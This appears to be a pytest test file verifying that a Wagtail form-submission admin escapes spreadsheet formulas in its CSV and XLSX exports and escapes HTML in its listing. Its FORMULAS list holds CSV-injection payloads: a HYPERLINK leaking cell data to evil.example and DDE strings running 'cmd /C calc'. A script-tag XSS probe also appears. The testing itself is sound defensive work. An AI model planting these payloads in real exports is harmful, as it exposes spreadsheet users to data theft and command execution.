"""The admin's CSV and XLSX exports of submissions never hand a spreadsheet a formula."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.forms.views import SubmissionsListView

from tests.api.forms.conftest import VALID, submit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def editor_client(client):
    user = get_user_model().objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(user)
    return client


def _submit_name(client, name):
    values = [(n, name if n == "full_name" else v) for n, v in VALID]
    assert submit(client, values).json()["data"]["submitForm"]["ok"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_export_shows_a_formula_as_text_and_keeps_the_answer(client, join_page, formula):
    _submit_name(client, formula)
    editor = get_user_model().objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(editor)
    response = client.get(f"/admin/forms/submissions/{join_page.pk}/", {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    stored = FormSubmission.objects.get().get_data()["full_name"]
    # Stored as sent (but for the leading and trailing whitespace a text answer never keeps).
    assert stored == formula.strip()
    assert rows[0]["Full name"] == "'" + stored


@pytest.mark.parametrize("number", ["-5", "-0.5", "-1e2", "+3"])
def test_a_csv_export_leaves_numbers_and_plain_text_alone(editor_client, join_page, number):
    values = [(n, v) for n, v in VALID if n != "age"] + [("age", number)]
    assert submit(editor_client, values).json()["data"]["submitForm"]["ok"]
    response = editor_client.get(f"/admin/forms/submissions/{join_page.pk}/", {"export": "csv"})
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["Age"] == FormSubmission.objects.get().form_data["age"]
    assert not row["Age"].startswith("'")
    assert row["Full name"] == "Ana Quispe"
    assert row["Interests"] == "Mining, Health"


def test_a_label_like_a_formula_heads_its_column_as_text(editor_client, join_page):
    field = join_page.form_fields.get(label="Full name")
    field.label = "=1+1"
    field.save()
    assert submit(editor_client, VALID).json()["data"]["submitForm"]["ok"]
    response = editor_client.get(f"/admin/forms/submissions/{join_page.pk}/", {"export": "csv"})
    header = b"".join(response.streaming_content).decode().splitlines()[0]
    assert "'=1+1" in header.split(",")


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_xlsx_export_holds_a_formula_as_a_text_cell(client, join_page, formula):
    _submit_name(client, formula)
    editor = get_user_model().objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(editor)
    response = client.get(f"/admin/forms/submissions/{join_page.pk}/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    cell = sheet[2][headings.index("Full name")]
    assert cell.data_type == "s"
    assert cell.value == formula.strip()


def test_an_apps_own_listing_keeps_its_behaviour_and_gets_safe_exports(editor_client, join_page, monkeypatch):
    class Listing(SubmissionsListView):
        def to_row_dict(self, item):
            row = super().to_row_dict(item)
            row["full_name"] = "=" + str(row["full_name"])
            return row

    monkeypatch.setattr(type(join_page), "submissions_list_view_class", Listing, raising=False)
    assert submit(editor_client, VALID).json()["data"]["submitForm"]["ok"]
    response = editor_client.get(f"/admin/forms/submissions/{join_page.pk}/", {"export": "csv"})
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["Full name"] == "'=Ana Quispe"


def test_the_listing_shows_an_answer_as_text(editor_client, join_page):
    _submit_name(editor_client, "<script>alert(1)</script>")
    response = editor_client.get(f"/admin/forms/submissions/{join_page.pk}/")
    assert response.status_code == 200
    assert b"<script>alert(1)</script>" not in response.content
    assert b"&lt;script&gt;alert(1)&lt;/script&gt;" in response.content
